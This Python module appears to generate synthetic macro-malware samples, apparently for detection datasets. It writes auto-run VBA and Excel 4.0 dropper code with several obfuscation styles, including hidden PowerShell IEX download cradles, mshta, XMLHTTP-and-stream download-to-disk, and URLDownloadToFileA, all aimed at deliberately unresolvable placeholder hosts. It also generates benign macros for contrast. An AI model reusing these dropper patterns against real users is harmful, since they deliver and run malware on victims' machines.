"""VBA and XLM source for the templates: droppers in several obfuscation styles, and benign macros.

"Malicious" here means shaped like malware (auto-run entry point, command execution, download
and save), never working: every command either runs `cmd /c rem` (a comment) or fetches from a
reserved host that cannot resolve, and nothing downloaded is ever there to run.
"""

from __future__ import annotations

import base64
import random

from maldoc.samples import text

AUTO_WORD = ("AutoOpen", "Document_Open")
AUTO_EXCEL = ("Workbook_Open", "Auto_Open")
STYLES = ("plain", "chr", "split", "reverse", "b64")


def command(rng: random.Random, kind: int | None = None) -> tuple[str, str]:
    """(command line, URL it names): inert by construction."""
    url = text.inert_url(rng, ext=rng.choice((".ps1", ".txt", ".dat", ".png")))
    kind = rng.randrange(4) if kind is None else kind
    if kind == 0:
        ps = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        return f"powershell -nop -w hidden -c \"{ps}\"", url
    if kind == 1:
        enc = base64.b64encode(f"Invoke-WebRequest -Uri '{url}' -OutFile $env:TEMP\\upd.txt".encode("utf-16-le"))
        return f"powershell -w hidden -enc {enc.decode()}", url
    if kind == 2:
        return f"cmd /c rem {url}", url
    return f"mshta {url}", url


def _chr_concat(s: str) -> str:
    return " & ".join(f"Chr({ord(c)})" for c in s)


def _split(rng: random.Random, s: str) -> str:
    parts, i = [], 0
    while i < len(s):
        n = rng.randint(2, 6)
        parts.append(s[i:i + n].replace('"', '""'))
        i += n
    return " & ".join(f'"{p}"' for p in parts)


def literal(rng: random.Random, s: str, style: str) -> str:
    """A VBA expression evaluating to `s`, written in one obfuscation style."""
    if style == "chr":
        return _chr_concat(s)
    if style == "split":
        return _split(rng, s)
    if style == "reverse":
        return 'StrReverse("' + s[::-1].replace('"', '""') + '")'
    return '"' + s.replace('"', '""') + '"'


def _junk(rng: random.Random, n: int) -> list[str]:
    lines = []
    for _ in range(n):
        v = text.ident(rng)
        kind = rng.randrange(3)
        if kind == 0:
            lines.append(f"    Dim {v} As Long: {v} = {rng.randint(1, 9999)} * {rng.randint(2, 99)}")
        elif kind == 1:
            lines.append(f"    ' {text.words(rng, 1)}")
        else:
            lines.append(f'    If Len("{text.ident(rng)}") = {rng.randint(50, 90)} Then {v} = 0')
    return lines


def dropper(rng: random.Random, *, host: str) -> tuple[str, str, str]:
    """(entry-point name, module code, style): an auto-run macro that runs or downloads something."""
    style = rng.choice(STYLES)
    entry = rng.choice(AUTO_WORD if host == "word" else AUTO_EXCEL)
    cmd, url = command(rng, 1 if style == "b64" else None)
    runner = text.ident(rng)
    var = text.ident(rng)
    junk = _junk(rng, rng.randint(0, 6) if style != "plain" else 0)
    method = rng.randrange(3)
    lines = [f"Sub {entry}()", f"    {runner}", "End Sub", "", f"Private Sub {runner}()"]
    lines += junk
    if method == 0:
        lines += [f"    Dim {var} As String", f"    {var} = {literal(rng, cmd, style)}",
                  f"    Shell {var}, vbHide"]
    elif method == 1:
        shell = literal(rng, "WScript.Shell", style)
        lines += [f"    Dim {var} As Object", f"    Set {var} = CreateObject({shell})",
                  f"    {var}.Run {literal(rng, cmd, style)}, 0, False"]
    else:
        path = "C:\\Users\\Public\\" + text.ident(rng, 4, 8).lower() + ".txt"
        lines += [f"    Dim {var} As Object", f"    Set {var} = CreateObject({literal(rng, 'MSXML2.XMLHTTP', style)})",
                  f"    {var}.Open \"GET\", {literal(rng, url, style)}, False", f"    {var}.Send",
                  "    Dim st As Object", f"    Set st = CreateObject({literal(rng, 'ADODB.Stream', style)})",
                  "    st.Type = 1: st.Open", f"    st.Write {var}.responseBody",
                  f"    st.SaveToFile {literal(rng, path, style)}, 2", "    st.Close",
                  f"    Shell {literal(rng, 'cmd /c rem ' + path, style)}, vbHide"]
    lines += [*_junk(rng, rng.randint(0, 3) if style != "plain" else 0), "End Sub"]
    return entry, "\n".join(lines), style


def benign_word(rng: random.Random) -> tuple[str, str]:
    """(entry, code): formatting helpers; sometimes an auto-run that only sets the view."""
    auto = rng.random() < 0.5
    name = rng.choice(("FormatHeadings", "TidyTables", "ApplyHouseStyle", "NumberFigures"))
    lines = []
    if auto:
        lines += ["Sub AutoOpen()", "    ActiveWindow.View.Zoom.Percentage = 100",
                  "    ActiveDocument.Fields.Update", "End Sub", ""]
    lines += [f"Sub {name}()", "    Dim p As Paragraph", "    For Each p In ActiveDocument.Paragraphs",
              '        If p.Style = "Heading 1" Then', "            p.Range.Font.Bold = True",
              f"            p.Range.Font.Size = {rng.choice((14, 16, 18))}", "        End If", "    Next p",
              "    Dim t As Table", "    For Each t In ActiveDocument.Tables",
              "        t.Borders.Enable = True", "    Next t",
              f'    MsgBox "{rng.choice(("Formatting done.", "House style applied.", "Tables tidied."))}"',
              "End Sub"]
    return ("AutoOpen" if auto else name), "\n".join(lines)


def benign_excel(rng: random.Random) -> tuple[str, str]:
    auto = rng.random() < 0.5
    rows = rng.randint(10, 200)
    lines = []
    if auto:
        lines += ["Sub Auto_Open()", '    Worksheets("Summary").Activate', "    Range(\"A1\").Select", "End Sub", ""]
    lines += ["Sub BuildReport()", "    Dim ws As Worksheet, total As Double, r As Long",
              '    Set ws = Worksheets("Data")', f"    For r = 2 To {rows}",
              "        total = total + ws.Cells(r, 3).Value", "    Next r",
              '    Worksheets("Summary").Range("B2").Value = total',
              f'    Worksheets("Summary").Range("B3").Value = WorksheetFunction.Average(ws.Range("C2:C{rows}"))',
              '    MsgBox "Report updated: " & Format(total, "#,##0.00")', "End Sub"]
    return ("Auto_Open" if auto else "BuildReport"), "\n".join(lines)


def xlm_formulas(rng: random.Random, *, obfuscate: bool) -> list[tuple[str, str]]:
    """Excel 4.0 macro cells (ref, formula without '='): a download-and-run shape, inert."""
    url = text.inert_url(rng, ext=".dat")
    path = "C:\\Users\\Public\\" + text.ident(rng, 4, 8).lower() + ".dat"

    def s(value: str) -> str:
        if obfuscate:
            return "&".join(f"CHAR({ord(c)})" for c in value)
        return '"' + value + '"'

    cells = [
        f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,{s(url)},{s(path)},0,0)',
        f"EXEC({s('cmd /c rem ' + path)})",
        "HALT()",
    ]
    col = rng.choice("ABCDEFGH")
    start = rng.randint(1, 40)
    return [(f"{col}{start + i}", f) for i, f in enumerate(cells)]
